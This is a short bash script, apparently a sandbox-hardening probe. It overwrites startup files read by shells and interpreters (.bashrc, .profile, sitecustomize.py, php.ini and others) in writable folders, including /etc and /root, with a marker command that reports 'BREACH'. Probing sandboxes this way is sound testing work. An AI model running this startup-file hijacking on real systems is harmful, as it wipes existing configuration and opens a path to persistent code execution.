#!/bin/bash
# Attacks: the next run: files that shells and interpreters read at their start, in every folder that can be written.
for folder in "$HOME" /tmp /dev/shm /var/tmp /box /etc /root /usr/lib/python3/dist-packages /program; do
  for name in .bashrc .profile .bash_env .netrc .perlrc .noderc sitecustomize.py usercustomize.py strict.pm init.lua .gdbinit php.ini rubyopt.rb nodes.js; do
    echo 'echo BREACH' >"$folder/$name" && case $folder in /etc | /root | /usr/* | /program) echo "BREACH $folder" ;; esac
  done
done 2>/dev/null
exit 0
